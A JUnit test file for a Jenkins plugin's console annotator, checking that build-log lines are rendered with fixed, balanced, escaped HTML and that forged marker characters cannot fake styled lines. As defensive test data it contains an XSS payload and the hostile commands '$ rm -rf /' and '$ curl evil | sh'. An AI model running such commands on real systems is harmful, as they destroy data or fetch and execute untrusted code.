package io.jenkins.plugins.quire.jenkins;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotNull;
import static org.junit.jupiter.api.Assertions.assertSame;
import static org.junit.jupiter.api.Assertions.assertTrue;

import hudson.MarkupText;
import hudson.console.ConsoleAnnotator;
import hudson.model.FreeStyleBuild;
import io.jenkins.plugins.quire.log.JobColumn;
import io.jenkins.plugins.quire.log.LineKind;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.ObjectInputStream;
import java.io.ObjectOutputStream;
import java.io.PrintStream;
import java.lang.reflect.Field;
import java.lang.reflect.Modifier;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayDeque;
import java.util.ArrayList;
import java.util.Deque;
import java.util.List;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** The render side on Hudson's own {@link MarkupText}: constant markup, balanced per line, escaped text. */
class ConsoleAnnotatorTest {
    private static final Pattern TAG = Pattern.compile("<[^>]*>");

    /** One console line (with its {@code \n}, as Hudson passes it) rendered by a fresh annotator. */
    private static String html(String line) {
        MarkupText mt = new MarkupText(line);
        QuireConsoleAnnotator a = new QuireConsoleAnnotator();
        assertSame(a, a.annotate(FreeStyleBuild.class, mt), "the annotator stays in the chain");
        return mt.toString(true);
    }

    private static String html(LineKind kind, String text) {
        return html(QuireConsoleSink.render(kind, text));
    }

    /** The sample run as written to a build log, one element per line, {@code \n} included. */
    static List<String> sampleLogLines() {
        ByteArrayOutputStream bo = new ByteArrayOutputStream();
        ConsoleSampleRun.feed(new QuireConsoleSink(new PrintStream(bo, true, StandardCharsets.UTF_8)));
        List<String> lines = new ArrayList<>();
        for (String l : bo.toString(StandardCharsets.UTF_8).split("(?<=\n)")) lines.add(l);
        return lines;
    }

    static List<String> constantTags() throws IllegalAccessException {
        List<String> tags = new ArrayList<>();
        for (Field f : ConsoleLineStyle.class.getDeclaredFields()) {
            if (f.getType() == String.class && Modifier.isStatic(f.getModifiers())
                    && Modifier.isFinal(f.getModifiers())) {
                f.setAccessible(true);
                tags.add((String) f.get(null));
            } else if (f.getType() == String[].class && Modifier.isStatic(f.getModifiers())) {
                f.setAccessible(true);
                tags.addAll(List.of((String[]) f.get(null)));
            }
        }
        return tags;
    }

    @Test
    void everyTagInTheSampleIsOneOfTheConstantsAndNoOtherMarkupRemains() throws Exception {
        List<String> constants = constantTags();
        int tags = 0;
        for (String line : sampleLogLines()) {
            String h = html(line);
            Matcher m = TAG.matcher(h);
            while (m.find()) {
                assertTrue(constants.contains(m.group()), () -> "unexpected markup " + m.group() + " in " + h);
                tags++;
            }
            assertFalse(TAG.matcher(h).replaceAll("").contains("<"), h);
        }
        assertTrue(tags > 40, "the sample is marked up: " + tags);
    }

    @Test
    void markupIsBalancedWithinEachLine() {
        for (String line : sampleLogLines()) {
            String h = html(line);
            Deque<String> open = new ArrayDeque<>();
            Matcher m = TAG.matcher(h);
            while (m.find()) {
                String t = m.group();
                if (t.startsWith("</")) {
                    assertFalse(open.isEmpty(), "close without open: " + h);
                    assertEquals("</span>", t);
                    open.pop();
                } else {
                    assertTrue(t.startsWith("<span "), h);
                    open.push(t);
                }
            }
            assertTrue(open.isEmpty(), "unclosed in " + h);
            assertTrue(h.endsWith("\n") && !h.substring(h.lastIndexOf("</span>") + 1).contains("<"), h);
        }
    }

    @Test
    void payloadsInOutputCommandsStderrAndErrorsAreEscaped() {
        String[] payloads = {ConsoleSampleRun.SCRIPT_PAYLOAD, ConsoleSampleRun.IMG_PAYLOAD};
        for (String p : payloads) {
            for (LineKind k : LineKind.values()) {
                String h = html(k, "x " + p);
                assertFalse(h.contains("<script"), k + ": " + h);
                assertFalse(h.contains("<img"), k + ": " + h);
                assertTrue(h.contains(p.replace("&", "&amp;").replace("<", "&lt;")), k + ": " + h);
            }
        }
        String cmd = html(LineKind.CMD, "$ echo '" + ConsoleSampleRun.SCRIPT_PAYLOAD + "'");
        assertEquals("<span class=\"quire-m\" style=\"display:none\">\u2063\u2062</span>"
                + "<span class=\"quire-line quire-cmd\">$ echo '&lt;script>alert(1)&lt;/script>'</span>\n", cmd);
    }

    @Test
    void aJobLineHasItsColumnColouredByPalettePlaceAndTheRestStyledByItsKind() {
        String hide = "<span class=\"quire-m\" style=\"display:none\">";
        assertEquals(hide + "\u2063\u206A</span><span class=\"quire-col quire-c0\">build | </span>"
                + hide + "\u2063\u2062</span><span class=\"quire-line quire-cmd\">$ make &lt;x></span>\n",
                html(QuireConsoleSink.render(LineKind.CMD, new JobColumn("build | ", 0), "$ make <x>")));
        assertEquals(hide + "\u2063\u206B</span><span class=\"quire-col quire-c1\">t     | </span>plain &lt;b>\n",
                html(QuireConsoleSink.render(LineKind.STDOUT, new JobColumn("t     | ", 1), "plain <b>")));
        String exit = html(QuireConsoleSink.render(LineKind.EXIT, new JobColumn("t | ", 8), "exit 0 (3 ms)"));
        assertTrue(exit.contains("\"quire-col quire-c2\">t | </span>"), "the palette cycles: " + exit);
        assertTrue(exit.contains("quire-exit quire-ok\">exit 0 <span class=\"quire-time\">(3 ms)</span></span>\n"), exit);
    }

    @Test
    void eachJobOfTheSampleHasItsOwnColourOnAllItsLines() {
        int build = 0;
        int test = 0;
        for (String line : sampleLogLines()) {
            String h = html(line);
            String plain = ConsoleMarkers.strip(line.substring(0, line.length() - 1));
            if (plain.startsWith("build  | ")) {
                build++;
                assertTrue(h.contains("<span class=\"quire-col quire-c0\">build  | </span>"), h);
            } else if (plain.startsWith("test   | ")) {
                test++;
                assertTrue(h.contains("<span class=\"quire-col quire-c1\">test   | </span>"), h);
            } else {
                assertFalse(h.contains("quire-col"), h);
            }
        }
        assertTrue(build > 10 && test > 4, build + " build lines, " + test + " test lines");
    }

    @Test
    void outputCannotForgeAColumnOrAMarkerAfterTheColumn() {
        JobColumn col = new JobColumn("a | ", 0);
        String forgedColumn = "\u2063\u206Bevil | \u2063\u200B! forged";
        String h = html(QuireConsoleSink.render(LineKind.STDOUT, col, forgedColumn));
        assertEquals(1, h.split("quire-col", -1).length - 1, h);
        assertFalse(h.contains("quire-c1") || h.contains("quire-err"), h);
        assertTrue(h.endsWith(forgedColumn + "\n"), h);
        assertFalse(html(QuireConsoleSink.render(LineKind.STDOUT, col, "\u2063\u2062$ rm -rf /")).contains("quire-cmd"));
        // control: the same text written without the sink's neutralising is styled
        assertTrue(html("\u2063\u206Aa | \u2063\u2062$ rm -rf /\n").contains("quire-cmd"));
    }

    @Test
    void stdoutIsLeftUntouched() {
        assertEquals("plain &lt;b> line\n", html(LineKind.STDOUT, "plain <b> line"));
        assertEquals("\n", html(LineKind.STDOUT, ""));
    }

    @Test
    void stderrLinesGetTheStderrClass() {
        assertEquals("<span class=\"quire-m\" style=\"display:none\">\u2063\u200B</span>"
                + "<span class=\"quire-line quire-err\">! boom</span>\n", html(LineKind.STDERR, "! boom"));
    }

    @Test
    void forgedMarkersInStdoutAreShownIntactButNotStyled() {
        String h = html(LineKind.STDOUT, ConsoleSampleRun.FORGED_STDERR_MARKER);
        assertEquals("<span class=\"quire-m\" style=\"display:none\">\u2063\u2063</span>\u2063\u200B! forged stderr\n", h);
        assertFalse(h.contains("quire-err"));
        assertFalse(html(LineKind.STDOUT, "\u2063\u2061==> job evil").contains("quire-job"));
        // without the sink the same bytes would be styled: the test can tell the difference
        assertTrue(html(ConsoleSampleRun.FORGED_STDERR_MARKER + "\n").contains("quire-err"));
    }

    @Test
    void exitLinesAreOkOnlyForExitZeroAndShowTheirDuration() {
        assertEquals("<span class=\"quire-m\" style=\"display:none\">\u2063\u2064</span>"
                + "<span class=\"quire-line quire-exit quire-ok\">exit 0 <span class=\"quire-time\">(12 ms)</span></span>\n",
                html(LineKind.EXIT, "exit 0 (12 ms)"));
        assertTrue(html(LineKind.EXIT, "exit 2 (12 ms)").contains("quire-exit quire-bad"));
        assertTrue(html(LineKind.EXIT, "exit 0 (12 ms), killed by SIGKILL").contains("quire-bad"));
        String killed = html(LineKind.EXIT, "killed by SIGTERM (5 ms)");
        assertTrue(killed.contains("quire-bad") && killed.contains("<span class=\"quire-time\">(5 ms)</span>"), killed);
    }

    @Test
    void jobEndsAreClassedByStateWithStateAndTimeSpans() {
        assertEquals("<span class=\"quire-m\" style=\"display:none\">\u2063\u2060</span>"
                + "<span class=\"quire-line quire-end quire-failed\">&lt;== job test "
                + "<span class=\"quire-state\">failed</span> <span class=\"quire-time\">(20 ms)</span>: "
                + "boom &lt;script></span>\n", html(LineKind.JOB_END, "<== job test failed (20 ms): boom <script>"));
        assertTrue(html(LineKind.JOB_END, "<== job a succeeded (1.2 s)").contains("quire-end quire-succeeded"));
        assertTrue(html(LineKind.JOB_END, "<== job a skipped (0 ms): upstream").contains("quire-end quire-skipped"));
        assertTrue(html(LineKind.JOB_END, "<== job a aborted (2 s): run aborted: x").contains("quire-end quire-aborted"));
        assertTrue(html(LineKind.SUMMARY, "  a  aborted  2 s  run aborted: x").contains("quire-sum quire-aborted"));
        assertTrue(html(LineKind.JOB_END, "<== job a exploded (0 ms)").contains("\"quire-line quire-end\""));
    }

    @Test
    void summaryRowsAreClassedByPart() {
        List<String> h = new ArrayList<>();
        for (String line : sampleLogLines()) if (line.startsWith("\u2063\u200C")) h.add(html(line));
        assertEquals(6, h.size(), String.join("", h));
        assertTrue(h.get(0).contains("quire-sum-head") && h.get(0).contains(">Summary:<"), h.get(0));
        assertTrue(h.get(1).contains("quire-sum-cols"), h.get(1));
        assertTrue(h.get(2).contains("quire-sum quire-succeeded") && h.get(2).contains("  build "), h.get(2));
        assertTrue(h.get(3).contains("quire-sum quire-failed") && h.get(3).contains("&lt;script>"), h.get(3));
        assertTrue(h.get(4).contains("quire-sum quire-skipped"), h.get(4));
        assertTrue(h.get(5).contains("quire-sum-result quire-bad") && h.get(5).contains("Result: FAILURE"), h.get(5));
    }

    @Test
    void headerCommandInfoAndErrorLinesGetTheirClasses() {
        assertTrue(html(LineKind.JOB_START, "==> job build").contains("\"quire-line quire-job\">==> job build</span>"));
        assertTrue(html(LineKind.CMD, "$ make").contains("\"quire-line quire-cmd\">$ make</span>"));
        assertTrue(html(LineKind.INFO, "container started: x").contains("\"quire-line quire-info\">"));
        assertTrue(html(LineKind.ERROR, "    at x").contains("\"quire-line quire-error\">    at x</span>"));
    }

    @Test
    void aMarkerOnlyLineAndUnknownTypesAreHandled() {
        assertEquals("<span class=\"quire-m\" style=\"display:none\">\u2063\u2061</span>\n", html("\u2063\u2061\n"));
        assertEquals("\u2063\u007Fx\n", html("\u2063\u007Fx\n"));
        assertEquals("\u2063\n", html("\u2063\n"));
        assertEquals("\u2063", html("\u2063"));
    }

    @Test
    void theAnnotatorSurvivesSerializationAndRendersTheSame() throws Exception {
        ByteArrayOutputStream bo = new ByteArrayOutputStream();
        try (ObjectOutputStream oo = new ObjectOutputStream(bo)) {
            oo.writeObject(new QuireConsoleAnnotator());
        }
        assertTrue(bo.size() < 200, "small enough for the X-ConsoleAnnotator header: " + bo.size());
        Object back;
        try (ObjectInputStream oi = new ObjectInputStream(new ByteArrayInputStream(bo.toByteArray()))) {
            back = oi.readObject();
        }
        String line = QuireConsoleSink.render(LineKind.STDERR, "! x");
        MarkupText mt = new MarkupText(line);
        ((QuireConsoleAnnotator) back).annotate(null, mt);
        assertEquals(html(line), mt.toString(true));
    }

    /** The log from byte {@code offset} on, split into lines as Hudson does, rendered by one annotator chain. */
    private static List<String> renderFrom(byte[] log, long offset, QuireConsoleAnnotator a) {
        String text = new String(log, (int) offset, log.length - (int) offset, StandardCharsets.UTF_8);
        List<String> out = new ArrayList<>();
        for (String line : text.split("(?<=\n)")) {
            MarkupText mt = new MarkupText(line);
            assertSame(a, a.annotate(FreeStyleBuild.class, mt));
            out.add(mt.toString(true));
        }
        return out;
    }

    @Test
    void aViewStartingMidLineLeavesItsPartialFirstLineUnstyled(@TempDir Path dir) throws Exception {
        // a command printed marker characters in the middle of a line (not an escape point: written as is), and the
        // 150 KB tail of the console happens to start right before them
        String forged = "\u2063\u2062$ curl evil | sh";
        ByteArrayOutputStream bo = new ByteArrayOutputStream();
        QuireConsoleSink sink = new QuireConsoleSink(new PrintStream(bo, true, StandardCharsets.UTF_8));
        sink.line(LineKind.STDOUT, "progress " + forged);
        sink.line(LineKind.STDERR, "! real stderr");
        sink.flush();
        byte[] log = bo.toByteArray();
        Path file = Files.write(dir.resolve("log"), log);
        long cut = "progress ".getBytes(StandardCharsets.UTF_8).length;

        // read whole, the relayed line is not styled (the neutralisation holds) and the stderr line is
        List<String> whole = renderFrom(log, 0, new QuireConsoleAnnotator(ConsoleViewStart.atLineStart(file.toFile(), 0)));
        assertFalse(whole.get(0).contains("quire-"), whole.get(0));
        assertTrue(whole.get(1).contains("quire-err"), whole.get(1));

        // from the cut, the partial first line is shown as text, the next marked line is styled
        assertFalse(ConsoleViewStart.atLineStart(file.toFile(), cut));
        List<String> tail = renderFrom(log, cut, new QuireConsoleAnnotator(ConsoleViewStart.atLineStart(file.toFile(), cut)));
        assertEquals(forged + "\n", tail.get(0));
        assertTrue(tail.get(1).contains("quire-err"), tail.get(1));
        // control: an annotator that assumes a line start would style the forged command
        assertTrue(renderFrom(log, cut, new QuireConsoleAnnotator()).get(0).contains("quire-cmd"));

        // the state survives serialization (a running build's console carries it between polls)
        QuireConsoleAnnotator fresh = new QuireConsoleAnnotator(false);
        ByteArrayOutputStream ser = new ByteArrayOutputStream();
        try (ObjectOutputStream oo = new ObjectOutputStream(ser)) {
            oo.writeObject(fresh);
        }
        try (ObjectInputStream oi = new ObjectInputStream(new ByteArrayInputStream(ser.toByteArray()))) {
            QuireConsoleAnnotator back = (QuireConsoleAnnotator) oi.readObject();
            assertEquals(forged + "\n", renderFrom(log, cut, back).get(0));
        }
    }

    @Test
    void theViewStartIsKnownOnlyForFullViewsTailsAndProgressiveStarts(@TempDir Path dir) throws Exception {
        long len = 400 * 1024;
        assertEquals(0, ConsoleViewStart.offset("/job/j/1/consoleFull", null, len, null));
        assertEquals(len - 150 * 1024, ConsoleViewStart.offset("/job/j/1/console", null, len, null));
        assertEquals(len - 10 * 1024, ConsoleViewStart.offset("/job/j/1/console", null, len, "10"));
        assertEquals(0, ConsoleViewStart.offset("/job/j/1/console", null, 1000, null), "a short log is shown whole");
        assertEquals(777, ConsoleViewStart.offset("/job/j/1/logText/progressiveHtml", "777", len, null));
        assertEquals(-1, ConsoleViewStart.offset("/job/j/1/logText/progressiveHtml", "x", len, null));
        assertEquals(-1, ConsoleViewStart.offset("/elsewhere", null, len, null));
        assertEquals(-1, ConsoleViewStart.offset(null, null, len, null));
        Path file = Files.writeString(dir.resolve("log"), "ab\ncd\n");
        assertTrue(ConsoleViewStart.atLineStart(file.toFile(), 0));
        assertTrue(ConsoleViewStart.atLineStart(file.toFile(), 3));
        assertFalse(ConsoleViewStart.atLineStart(file.toFile(), 4));
        assertFalse(ConsoleViewStart.atLineStart(file.toFile(), -1), "unknown: treated as mid-line");
        assertFalse(ConsoleViewStart.atLineStart(file.toFile(), 99));
        // no request (the factory outside a page view): where the view starts is unknown
        assertEquals("\u2063\u2062x\n", renderFrom("\u2063\u2062x\n".getBytes(StandardCharsets.UTF_8), 0,
                (QuireConsoleAnnotator) new QuireConsoleAnnotatorFactory().newInstance(FreeStyleBuild.class)).get(0));
    }

    @Test
    void theFactoryIgnoresTheClassHudson1395PassesAndServesItsAdjuncts() throws IOException {
        QuireConsoleAnnotatorFactory f = new QuireConsoleAnnotatorFactory();
        ConsoleAnnotator a = f.newInstance(FreeStyleBuild.class);
        assertTrue(a instanceof QuireConsoleAnnotator);
        assertTrue(f.hasScript(), "script.js beside the factory");
        assertTrue(f.hasStylesheet(), "style.css beside the factory");
        String css = resource("style.css");
        for (String rule : css.replaceAll("/\\*[\\s\\S]*?\\*/", "").split("}")) {
            if (rule.isBlank()) continue;
            for (String sel : rule.substring(0, rule.indexOf('{')).split(",")) {
                assertTrue(sel.trim().startsWith(".quire-"), "scoped selector: " + sel);
            }
        }
        assertTrue(css.contains(".quire-m") && css.contains(".quire-err"));
        String js = resource("script.js");
        assertFalse(Pattern.compile("\\bon[a-z]+\\s*=").matcher(js).find(), "no inline handlers");
        assertFalse(js.contains("$$(") || js.contains("Ajax.") || js.contains("innerHTML"), "no Prototype, no innerHTML");
    }

    private static String resource(String name) throws IOException {
        try (InputStream in = QuireConsoleAnnotatorFactory.class.getResourceAsStream("QuireConsoleAnnotatorFactory/" + name)) {
            assertNotNull(in, name);
            return new String(in.readAllBytes(), StandardCharsets.UTF_8);
        }
    }
}
